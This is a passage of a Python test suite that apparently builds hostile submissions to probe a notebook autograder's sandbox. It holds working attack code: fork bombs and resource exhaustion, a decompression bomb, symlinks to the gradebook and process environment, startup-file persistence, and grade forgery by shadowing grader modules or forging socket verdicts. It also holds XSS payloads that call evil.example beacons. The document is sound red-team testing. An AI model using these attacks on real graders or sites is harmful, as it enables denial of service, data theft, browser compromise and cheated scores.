    end.connect("\\0left-behind")
    won("talks to what was left")
""",
    before="""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        door = socket.socket(socket.AF_UNIX)
        door.bind("\\0left-behind")
        door.listen()
        end = time.time() + 60
        while time.time() < end: time.sleep(0.1)
    os._exit(0)
""",
)
cell(
    "start_up_files_left",
    "a later submission",
    "start-up files of Python and IPython",
    """
if globals().get("WAS_LEFT"): won("the start-up file of an earlier submission ran")
""",
    before="""
for path in ("~/.ipython/profile_default/startup/0.py",
             "~/.local/lib/python3.11/site-packages/usercustomize.py"):
    path = os.path.expanduser(path)
    tried(lambda: os.makedirs(os.path.dirname(path), exist_ok=True))
    tried(lambda: open(path, "w").write("import builtins; builtins.WAS_LEFT = WAS_LEFT = True"))
""",
)
cell(
    "descriptor_shared",
    "a later submission",
    "what is behind the descriptors that every submission is given",
    """
for number in range(16):
    with contextlib.suppress(OSError):
        if b"LEFT-HERE" in os.pread(number, 4096, 0): won(f"reads what was left in {number}")
""",
    before="""
for number in range(16):
    with contextlib.suppress(OSError): os.pwrite(number, b"LEFT-HERE", 0)
""",
)
cell(
    "process_left",
    "a later submission",
    "a process that outlives its cell and its notebook",
    """
for name in others():
    if tried(lambda: "left-behind" in open(f"/proc/{name}/cmdline").read()): won("it still runs")
""",
    before="""
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "left-behind"],
                 start_new_session=True)
""",
)


# What is handed in beside the notebook.


def _reads(*names: str) -> str:
    shown = [f"print(open({name!r}, errors='replace').read())" for name in names]
    return "\n".join(f"with __import__('contextlib').suppress(OSError): {line}" for line in shown)


@attack("secrets", "a symbolic link to the gradebook, among the files")
def link_to_a_file(mine: Submission) -> None:
    mine.links |= {"data.csv": "../../../gradebook.db", "more.csv": "../../../verdicts.json"}
    mine.run(_reads("data.csv", "more.csv"))


@attack("secrets", "a symbolic link to a folder of the course")
def link_to_a_folder(mine: Submission) -> None:
    mine.links |= {"source": "../../../source", "others": "../../ada"}
    mine.run(_reads("source/ps2/ps2.ipynb", "others/ps2/ps2.ipynb"))


@attack("secrets", "a symbolic link to the grader's /proc/self")
def link_to_proc(mine: Submission) -> None:
    mine.links |= {"environ": "/proc/self/environ"}
    mine.run(
        "import os\nif os.path.exists('environ') and 'PATH=' in open('environ').read():\n"
        f"    print('{WON}' + '', 'reads the environment in which its files were copied')"
    )


@attack("score", "a symbolic link in place of the notebook, to another student's")
def link_to_a_notebook(mine: Submission) -> None:
    mine.links |= {"ps2.ipynb": "../../ada/ps2/ps2.ipynb"}


@attack("the run", "a symbolic link to an endless file")
def link_to_an_endless_file(mine: Submission) -> None:
    mine.links |= {"zero": "/dev/zero"}


@attack("the run", "a symbolic link that leads in a circle")
def link_in_a_circle(mine: Submission) -> None:
    mine.links |= {"here": ".", "self": "self", "up": ".."}


@attack("score", "modules of one's own beside the notebook")
def modules_beside(mine: Submission) -> None:
    lies = b"def grade(*args): return 3.0\n"
    names = ("autograder", "json", "safetensors", "sitecustomize", "usercustomize", "nbgrader")
    mine.files |= {f"{name}.py": lies for name in names}
    mine.files |= {"autograder/__init__.py": lies, "torch/__init__.py": b"allclose = print\n"}
    mine.run("import sys\nsys.path.insert(0, '')\nsys.modules.pop('autograder', None)")


@attack("the run", "files that nbgrader itself reads")
def files_for_nbgrader(mine: Submission) -> None:
    mine.files |= {
        "timestamp.txt": b"the day before yesterday",
        "nbgrader_config.py": b"raise SystemExit(1)",
        "gradebook.db": b"mine",
        "extra.ipynb": b"{}",
    }


@attack("the run", "names of files that are no text")
def odd_file_names(mine: Submission) -> None:
    mine.files |= {"a\nb": b"1", "\x1b[2J": b"2", "-rf": b"3", "x" * 200: b"4", "\udcff": b"5"}


@attack("the run", "a notebook that is deep")
def deep_notebook(mine: Submission) -> None:
    text = json.dumps(mine.notebook)
    mine.raw = text.replace('"metadata": {}', '"metadata": {"x": ' + "[" * 900 + "]" * 900 + "}", 1)


@attack("the run", "half a character in a cell")
def half_a_character(mine: Submission) -> None:
    mine.run("x = 1")
    mine.write("half a character")
    mine.raw = json.dumps(mine.notebook).replace("half a character", "half \\ud800 a character")


@attack("the run", "metadata of the wrong type")
def odd_metadata(mine: Submission) -> None:
    mine.find(EXERCISES[1]).metadata["nbgrader"]["schema_version"] = 99
    mine.find(EXERCISES[2]).metadata["nbgrader"]["points"] = "many"
    mine.find("arena_q").metadata["nbgrader"] = "arena_q"
    mine.find(EXERCISES[0]).metadata["nbgrader"] = ["ps2_kl"]
    mine.notebook.metadata["kernelspec"] = {"name": "bash", "argv": ["/bin/sh"]}
    mine.notebook.metadata["language_info"] = ["python"]


@attack("the run", "ten thousand cells")
def many_cells(mine: Submission) -> None:
    mine.notebook.cells += [new_code_cell("1") for _ in range(2000)]
    mine.notebook.cells += [new_markdown_cell("x") for _ in range(8000)]


@attack("the run", "a heading that takes a search for ever")
def slow_heading(mine: Submission) -> None:
    mine.write("# a" + " " * 200_000 + "b")


@attack("the run", "Markdown that takes for ever to parse")
def slow_markdown(mine: Submission) -> None:
    mine.write("[" * 20_000 + "*a_" * 10_000 + "<!-" * 10_000)


# The machine and the run, by taking too much.

cell("an_exit", "the run", "SystemExit", "raise SystemExit(0)")
answers(
    "an_exit_when_judged",
    "the run",
    "SystemExit and exit() in a judged function",
    ps2_kl="def gaussian_kl(mu, log_var):\n    raise SystemExit(0)",
    ps2_reparameterize="def reparameterize(mu, log_var, generator=None):\n    exit()",
)
cell("a_hard_exit", "the run", "os._exit in a cell", "os._exit(0)")
answers(
    "a_hard_exit_when_judged",
    "the run",
    "os._exit in a judged function",
    ps2_kl="import os\ndef gaussian_kl(mu, log_var):\n    os._exit(0)",
)
cell("a_crash", "the run", "a segmentation fault", "ctypes.string_at(0)")
answers(
    "an_endless_loop",
    "the run",
    "a function that does not end",
    ps2_kl="def gaussian_kl(mu, log_var):\n    while True: pass",
)
cell(
    "deaf_to_interrupts",
    "the run",
    "a cell that ignores interruptions",
    """
while True:
    try:
        while True: time.sleep(1)
    except BaseException: pass
""",
)
cell(
    "a_lock",
    "the run",
    "a deadlock",
    "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()",
)
cell(
    "forks",
    "the machine",
    "a fork bomb",
    """
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    with contextlib.suppress(OSError): os.fork()
""",
)
cell(
    "memory_taken",
    "the machine",
    "an allocation of 100 GB",
    "held = bytearray(100 * 2**30)\nwon('holds 100 GB')",
)
_MUCH = 1600  # MB: twice what a submission may have here
cell(
    "memory_in_files",
    "the machine",
    "memory in files that have no name",
    f"""
held, count = [], 0
part = bytes(2**20)
with contextlib.suppress(OSError):
    while count < {_MUCH}:
        held.append(os.memfd_create("x"))
        for _ in range(40):
            os.write(held[-1], part)
            count += 1
if count >= {_MUCH}: won(f"holds {{count}} MB in nameless files")
""",
)
cell(
    "memory_in_segments",
    "the machine",
    "memory in segments of System V that nobody is attached to",
    f"""
libc.shmat.restype = ctypes.c_void_p
count = 0
while count < {_MUCH}:
    segment = libc.shmget(0, 64 * 2**20, 0o1600)
    place = libc.shmat(segment, None, 0)
    if segment < 0 or place in (None, 2**64 - 1): break
    ctypes.memset(place, 1, 64 * 2**20)
    libc.shmdt(ctypes.c_void_p(place))
    count += 64
if count >= {_MUCH}: won(f"holds {{count}} MB in segments")
""",
)
cell(
    "disk_taken",
    "the machine",
    "a full disk",
    f"""
written = 0
with contextlib.suppress(OSError):
    for folder in ("/tmp", "/dev/shm", ".", os.path.expanduser("~")):
        for number in range(20):
            with contextlib.suppress(OSError), open(f"{{folder}}/big{{number}}", "wb") as file:
                for _ in range(60):
                    file.write(bytes(2**20))
                    file.flush()
                    written += 1
            if written >= {_MUCH}: break
if written >= {_MUCH}: won(f"wrote {{written}} MB")
""",
)
cell(
    "descriptors_taken",
    "the machine",
    "more open files than anybody needs",
    """
held = []
with contextlib.suppress(OSError):
    while len(held) < 100_000: held.append(os.open("/dev/null", os.O_RDONLY))
if len(held) >= 100_000: won("holds 100,000 open files")
""",
)
cell(
    "endless_prints",
    "the run",
    "a gigabyte of prints",
    "line = 'x' * 2**20\nfor _ in range(1024): print(line)",
)
cell(
    "endless_displays",
    "the run",
    "a hundred thousand displays, and huge ones",
    """
from IPython.display import display
for _ in range(100_000): display({"text/plain": "x" * 9}, raw=True)
display({"text/plain": "x" * (40 * 2**20)}, raw=True)
""",
)
cell(
    "printed_half_a_character",
    "the run",
    "half a character, printed, displayed and raised",
    """
from IPython.display import display
print("\\ud800")
display({"text/plain": "\\udfff", "image/png": "\\ud800"}, raw=True)
raise ValueError("\\ud800")
""",
)
_BOMB = base64.b64encode(
    b"\x89PNG\r\n\x1a\n"
    + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in (
            (b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)),
            (b"IDAT", zlib.compress(bytes(60_000_000), 9)),
            (b"IEND", b""),
        )
    )
).decode()
cell(
    "picture_bomb",
    "the run",
    "a small picture that unpacks to gigabytes",
    f"""
from IPython.display import display
display({{"image/png": {_BOMB!r}, "text/plain": "a picture"}}, raw=True)
""",
)


@attack("the run", "a packed file beside the notebook")
def packed_bomb(mine: Submission) -> None:
    mine.files |= {"ps2.ipynb.gz": zlib.compress(bytes(10**8), 9), "data.zip": b"PK\x03\x04" * 9}


# The wire.

_SOCKET = """
def wire():
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            found = socket.socket(fileno=os.dup(number))
            if found.family == socket.AF_UNIX: found.setblocking(True); return found
def frame(text, blob=b""):
    text = text if isinstance(text, bytes) else text.encode()
    return struct.pack(">II", len(text), len(blob)) + text + blob
end = wire()
"""


def forged(name: str, means: str, source: str) -> None:
    """An attack that writes to the judge in its own words."""
    cell(name, "the wire", means, f"{_SOCKET}\nif end:\n" + _indented(source))


def _indented(source: str) -> str:
    return "\n".join(f"    {line}" for line in source.strip().split("\n"))


forged(
    "answers_in_advance",
    "many answers before the questions",
    """
yes = frame(b'["d",["value",true]]')
tensor = safetensors.torch.save({"0": torch.zeros(3)}) if "safetensors" in sys.modules else b""
zeros = frame(b'["d",["value",["T",0]]]', tensor)
end.sendall(frame(b'["d",["value",["l"]]]') + 40 * yes + 40 * zeros)
""".replace("tensor = ", "import safetensors.torch; tensor = "),
)
forged(
    "a_verdict_on_the_wire",
    "a verdict where an answer is expected",
    f"""
import json
def written(value):
    if isinstance(value, dict): return ["d", *[[k, written(v)] for k, v in value.items()]]
    if isinstance(value, list): return ["l", *map(written, value)]
    return value
outputs = [{{"output_type": kind, "metadata": {{}}, "data": data}} for kind, data in (
    ("display_data", {{{_VERDICT!r}: {_verdict("ps2_kl")!r}}}),
    ("execute_result", {{"text/plain": "3.0"}}))]
for _ in range(20): end.sendall(frame(json.dumps(written({{"value": outputs}}))))
""",
)
forged(
    "huge_lengths",
    "lengths of four gigabytes",
    'end.sendall(struct.pack(">II", 2**32 - 1, 2**32 - 1))',
)
forged("deep_json", "JSON a million deep", 'end.sendall(frame("[" * 2**20 + "]" * 2**20))')
forged(
    "broad_json",
    "thirty megabytes of empty lists",
    """end.sendall(frame('["d",["value",["l"' + ',["l"]' * 5_000_000 + ']]]'))""",
)
forged(
    "odd_json",
    "NaN keys, unknown kinds, wrong numbers of parts",
    """
for text in ('["d",[NaN,1]]', '["Z"]', '["T"]', '{"value":1}', '["d",["value",["T",7]]]', "null",
             "", '["d",["value",["R",-1,"x"]]]', '["d",["error",["d",["kind","pass"]]]]', "\\xff"):
    end.sendall(frame(text.encode("latin-1")))
""",
)
forged(
    "bad_safetensors",
    "safetensors whose header lies",
    """
head = b'{"0":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4]}}'
for blob in (struct.pack("<Q", 2**60), struct.pack("<Q", len(head)) + head + bytes(4), b"x" * 99):
    end.sendall(frame('["d",["value",["T",0]]]', blob))
""",
)
forged(
    "too_slow",
    "an answer byte by byte",
    """
for byte in frame(b" " * 1000):
    end.send(bytes([byte]))
    time.sleep(0.05)
time.sleep(100)
""",
)
forged(
    "half_an_answer", "half a frame, and the end", 'end.sendall(frame("[" * 100)[:50]); os._exit(0)'
)
forged(
    "never_listening",
    "a flood of answers that never ends",
    """
signal.signal(signal.SIGINT, signal.SIG_IGN)
flood = frame('["d",["value",["l"]]]') * 1000
while True: end.sendall(flood)
""",
)
forged(
    "questions_stolen",
    "questions read by somebody else than the desk",
    """
import threading
def read():
    while True:
        with contextlib.suppress(OSError): end.recv(2**16)
threading.Thread(target=read, daemon=True).start()
""",
)


def answering(name: str, means: str, value: str) -> None:
    """An attack whose desk gives the judge an answer that no honest one would."""
    cell(
        name,
        "the wire",
        means,
        f"""
serve = sys.modules.get("autograder.sandbox.serve")
if serve:
    wire = sys.modules["autograder.sandbox.wire"]
    kept = serve.Desk.answer
    def answer(self, message):
        if message.get("do") != "verb": return kept(self, message)
        Ref = sys.modules["autograder.student"].Ref
        return {value}
    serve.Desk.answer = answer
""",
    )


answering(
    "errors_forged",
    "errors of kinds that there are not, or that blame the grader",
    '{"error": dict.fromkeys(["type", "message", "where", "line"], "") | {"kind": "grader_error"}}',
)
answering(
    "errors_with_markup",
    "an error whose words are HTML and escapes",
    '{"error": {"kind": "error", "type": "<script>alert(1)</script>", '
    '"message": "<img src=x onerror=alert(1)> [a](javascript:alert(1)) \\x1b[2J\\ud800", '
    '"where": "`</code><script>alert(1)</script>`", "line": "\\ud800 `<svg onload=alert(1)>`"}}',
)
answering(
    "tickets_with_markup",
    "tickets whose type has a name of megabytes, with HTML in it",
    '{"value": Ref(10**30, "<script>alert(1)</script>\\ud800" + "x" * 2**22)}',
)
answering(
    "half_a_gigabyte",
    "the largest tensor that the wire allows, every time",
    '{"value": torch.zeros(2**26)}',
)
answering(
    "nothing_where_a_tensor_is",
    "None, empty and 0-dimensional tensors in every place",
    '{"value": {"has": True, "modes": [], "parameters": [torch.zeros(0)],'
    ' "call": torch.zeros(0, 5),'
    ' "gradients": [None, [None] * len(message["kwargs"].get("wrt", ())), [torch.zeros(())]]}'
    '.get(message["verb"], torch.zeros(()))}',
)
answering(
    "wrong_gradients",
    "gradients of other shapes and dtypes than the arguments",
    '{"value": [torch.zeros(3, dtype=torch.int64), [torch.zeros(2, 2, dtype=torch.bool) for _ in '
    'message["kwargs"].get("wrt", ())], []] if message["verb"] == "gradients" else '
    "torch.zeros(3, dtype=torch.bool)}",
)
answering(
    "exotic_dtypes_on_the_wire",
    "tensors in float8 and unsigned types",
    '{"value": torch.zeros(3).to(torch.float8_e4m3fn) if message["verb"] == "call" else '
    "[torch.zeros(3).to(torch.uint16), [torch.zeros(3, 5).to(torch.uint32)] * "
    'len(message["kwargs"].get("wrt", ())), []]}',
)


# The pages on which people read.


def shown(name: str, means: str, data: dict, metadata: dict | None = None) -> None:
    """An attack that is a display."""
    metadata = metadata or {}
    cell(
        name,
        "a browser",
        means,
        "from IPython.display import display\n"
        f"display({data!r}, metadata={metadata!r}, raw=True)\n",
    )


SCRIPT = "<script>alert('mine')</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'
QUOTED = 'x" onerror="alert(1)'

shown("html_shown", "HTML, displayed", {"text/html": SCRIPT})
shown("svg_shown", "SVG, displayed", {"image/svg+xml": SVG})
shown("javascript_shown", "JavaScript, displayed", {"application/javascript": "alert(1)"})
shown(
    "markdown_shown", "Markdown, displayed", {"text/markdown": f"{SCRIPT} [x](javascript:alert(1))"}
)
shown(
    "latex_shown",
    "LaTeX, displayed",
    {"text/latex": f"$\\href{{javascript:alert(1)}}{{x}}$ {SCRIPT}"},
)
shown(
    "picture_with_quotes", "base64 with quotes in it", {"image/png": QUOTED, "image/jpeg": QUOTED}
)
shown(
    "picture_with_words",
    "a picture's metadata with quotes in it",
    {"image/png": "iVBORw0KGgo="},
    {"image/png": {"alt": QUOTED, "width": QUOTED, "height": QUOTED, "unconfined": True}},
)
shown(
    "widget_shown",
    "a widget's view",
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": SCRIPT},
)
cell(
    "text_shown",
    "a browser",
    "tags and escapes in what is printed and raised",
    f"""
print("</pre></div>{SCRIPT}\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07")
raise type("<img src=x onerror=alert(1)>", (Exception,), {{}})("</pre>{SCRIPT}")
""",
)
cell("source_shown", "a browser", "tags in the source of a cell", f"# </pre></div>{SCRIPT}\n1")


def written(name: str, means: str, text: str) -> None:
    """An attack that is a Markdown cell."""

    def apply(mine: Submission) -> None:
        mine.write(text)

    ATTACKS.append(Attack(name, "a browser", means, apply))


written(
    "script_written", "a script in Markdown", f"{SCRIPT}\n\n<SCRIPT SRC=//evil.example/x></SCRIPT>"
)
written(
    "handlers_written",
    "handlers of events in Markdown",
    "<img src=x onerror=alert(1)>\n<details open ontoggle=alert(1)>\n<svg/onload=alert(1)>"
    "\n\n<<img src=x onerror=alert(1)>\n\n<\nimg src=x onerror=alert(1)>",
)
written(
    "links_written",
    "links to javascript: in Markdown",
    "[a](javascript:alert(1)) [b](&#106;avascript:alert(1)) [c]( JaVa\tscript:alert(1)) "
    "<javascript:alert(1)> [d][e] ![f](javascript:alert(1)) [g](data:text/html,<script>1</script>)"
    "\n\n[e]: javascript:alert(1)\n[e2]\n: javascript:alert(1)\n\n[h\\](](javascript:alert(1))",
)
written(
    "frames_written",
    "frames, forms and redirections in Markdown",
    '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>\n<form action=javascript:alert(1)>'
    '<button>x</button></form>\n<meta http-equiv=refresh content="0;url=//evil.example">'
    "<base href=//evil.example/><object data=//evil.example/x></object>",
)
written(
    "pictures_from_elsewhere",
    "a picture that reports who looks at it",
    '<img src="https://evil.example/beacon">\n\n<style>body{background:url(//evil.example)}</style>'
    "\n\n![x](//evil.example/beacon2)\n![y](https://evil.example/beacon3)",
)
written(
    "mathematics_written",
    "commands of MathJax that make links",
    "$\\href{javascript:alert(1)}{click}$ and $$\\require{html}\\href{javascript:alert(2)}{x}$$",
)
written(
    "markdown_hidden",
    "Markdown inside code, tables and mathematics that ends early",
    f"`` ` ``{SCRIPT}\n\n$x<${SCRIPT}$\n\n| a | b |\n|-|-|\n| {SCRIPT} | [x](javascript:1) |\n\n"
    f"```html\n```\n{SCRIPT}\n\n$$\n</script>{SCRIPT}\n$$\n\n\\begin{{x}}{SCRIPT}\\end{{x}}",
)


@attack("a browser", "an attachment whose type has quotes in it")
def attachment(mine: Submission) -> None:
    found = mine.write("![x](attachment:a.png) ![y](attachment:b.svg)")
    found["attachments"] = {
        "a.png": {'image/png" onerror="alert(1)': "iVBORw0KGgo="},
        "b.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode() + '" onerror="alert(2)'},
    }


@attack("a browser", "a raw cell, which pages take as it is")
def raw_cell(mine: Submission) -> None:
    mine.notebook.cells.append(new_raw_cell(SCRIPT))
    kind = {"raw_mimetype": "text/html", "format": "text/html"}
    mine.notebook.cells.append(new_raw_cell(f"{SCRIPT} twice", metadata=kind))


@attack("a browser", "a manual answer with a script in it")
def script_in_an_answer(mine: Submission) -> None:
    mine.find("arena_q").source = f"{SCRIPT} <img src=x onerror=alert(1)>"


@attack("a browser", "the notebook's language and title")
def names_with_markup(mine: Submission) -> None:
    bad = f'x"></div>{SCRIPT}'
    mine.notebook.metadata["language_info"] = {"name": bad, "pygments_lexer": bad}
    mine.notebook.metadata["title"] = bad
    mine.notebook.metadata["kernelspec"] = {"name": bad, "display_name": bad, "language": bad}
    mine.write("x").metadata["magics_language"] = bad


@attack("a browser", "tags, names and ids of cells")
def cells_with_markup(mine: Submission) -> None:
    bad = f'x"></div>{SCRIPT}'
    for found in mine.notebook.cells:
        found.metadata["tags"] = [*found.metadata.get("tags", []), bad]
        found.metadata["name"] = bad
        found["id"] = f"{bad}{found['id']}"


@attack("a browser", "a twin of an instructor's cell, with outputs and tags of its own")
def twin_of_prose(mine: Submission) -> None:
    text = mine.notebook.cells[0].source
    twin = new_code_cell(text, metadata={"tags": [f'"><{SCRIPT}']})
    twin.outputs = [new_output("display_data", data={"text/html": SCRIPT})]
    mine.notebook.cells.append(twin)
    other = new_markdown_cell(text, metadata={"tags": [f'"><{SCRIPT}']})
    other["attachments"] = {"x": {"text/html": SCRIPT}}
    mine.notebook.cells.append(other)


@attack("a browser", "the state of widgets in the notebook's metadata")
def widget_state(mine: Submission) -> None:
    mine.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"x": {"model_name": "HTMLModel", "state": {"value": f"</script>{SCRIPT}"}}},
            "version_major": 2,
            "version_minor": 0,
        }
    }
